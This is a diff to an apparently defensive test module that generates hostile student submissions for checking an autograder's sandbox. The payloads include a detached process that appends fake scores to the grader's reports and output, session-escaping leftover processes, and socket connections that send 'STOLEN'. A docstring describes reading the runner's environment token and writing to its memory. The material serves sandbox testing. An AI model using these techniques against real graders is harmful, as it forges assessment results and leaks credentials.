@@ -127,8 +127,8 @@ in its callers' frames; with a wrong-sign mul_backward."""
 
 
 def survivor(targets: list[str]) -> str:
-    """Double-forks a ``setsid`` process that waits, then appends fake scores to the reports and
-    to its runner's own stdout (through /proc/<runner>/fd/1, the runner found among its
+    """Double-forks a process (``setsid``, where that is allowed) that waits, then appends fake
+    scores to the reports and to its runner's own stdout (through /proc/<runner>/fd/1, the runner found among its
     ancestors, so that graders run by other tests are left alone), and stays alive as
     ``sleep MARK``."""
     return f"""
@@ -145,7 +145,10 @@ while pid > 1:
     except (OSError, ValueError, IndexError):
         break
 if os.fork() == 0:
-    os.setsid()
+    try:
+        os.setsid()
+    except OSError:  # refused under --sandbox none: it stays in the worker's session
+        pass
     if os.fork() == 0:
         try:
             time.sleep(1.5)
@@ -669,3 +672,72 @@ _functional.mul_backward = _telling_mul
 """Under ``--sandbox none``: opens, in the runner's parent (dumpable, the same user), its
 environment (where a token set for the runner is too), its memory for writing and its stdout (the
 output whose last line Autolab reads); its mul_backward says which it could open."""
+
+
+def wanderer(tcp_port: int, unix_path: str) -> str:
+    """Leaves, in every test, a ``sleep MARK`` started by a child of the worker after trying to
+    leave the worker's session (``setsid``) and process group (``setpgid``): under ``none`` the
+    runner found leftovers only as its own children, by pid, and a chain of processes each forking
+    the next and exiting could outrun that search on a machine with cores to spare. Its
+    mul_backward also tries a TCP connection to ``tcp_port`` on localhost, a connection to the Unix
+    socket ``unix_path`` (how ``systemd-run --user``, a tmux server or D-Bus would start a process
+    that is no descendant of the runner), io_uring (which makes sockets without the socket call)
+    and a System V shared memory segment (which outlives its processes, for a later hand-in of the
+    same user), and says which worked."""
+    return f"""
+import os as _os
+_read, _write = _os.pipe()
+_child = _os.fork()
+if _child == 0:
+    try:
+        _tried = []
+        for _name, _call in (("its session", _os.setsid), ("its process group", lambda: _os.setpgid(0, 0))):
+            try:
+                _call()
+                _tried.append(f"left {{_name}}")
+            except OSError as _error:
+                _tried.append(f"could not leave {{_name}} ({{_error.strerror}})")
+        if _os.fork() == 0:
+            _os.execv("/bin/sleep", ["sleep", {MARK!r}])
+        _os.write(_write, "; ".join(_tried).encode())
+    finally:
+        _os._exit(0)
+_os.close(_write)
+_left = _os.read(_read, 4096).decode()
+_os.close(_read)
+_os.waitpid(_child, 0)  # (only the sleep is left running)
+
+
+def _wandering_mul(grad_output, a, b):
+    import ctypes, os, struct  # (not socket: under uid a Python in root's home has only what was loaded)
+    did = [_left]
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    tcp = struct.pack("=H", 2) + struct.pack(">H", {tcp_port}) + bytes([127, 0, 0, 1]) + bytes(8)
+    unix = struct.pack("=H", 1) + {unix_path.encode()!r} + bytes(1)
+    for name, family, address in (("a TCP connection", 2, tcp), ("a Unix socket", 1, unix)):
+        fd = libc.socket(family, 1, 0)  # SOCK_STREAM
+        if fd < 0:
+            did.append(f"could not make {{name}} ({{os.strerror(ctypes.get_errno())}})")
+        elif libc.connect(fd, address, len(address)) != 0:
+            did.append(f"could not make {{name}}: connect failed ({{os.strerror(ctypes.get_errno())}})")
+        else:
+            os.write(fd, b"STOLEN")
+            did.append(f"made {{name}}")
+        if fd >= 0:
+            os.close(fd)
+    params = ctypes.create_string_buffer(120)
+    ring = libc.syscall(425, 4, params)  # io_uring_setup (the same number on x86-64 and ARM64)
+    did.append(f"io_uring_setup gave {{ring}} (errno {{ctypes.get_errno()}})")
+    if ring >= 0:
+        os.close(ring)
+    segment = libc.shmget(0, 4096, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
+    did.append(f"shmget gave {{segment}} (errno {{ctypes.get_errno()}})")
+    if segment >= 0:
+        libc.shmctl(segment, 0, None)  # IPC_RMID
+    raise RuntimeError("; ".join(did))
+
+
+from mytorch.nn import functional as _functional
+_functional.mul_backward = _wandering_mul
+"""
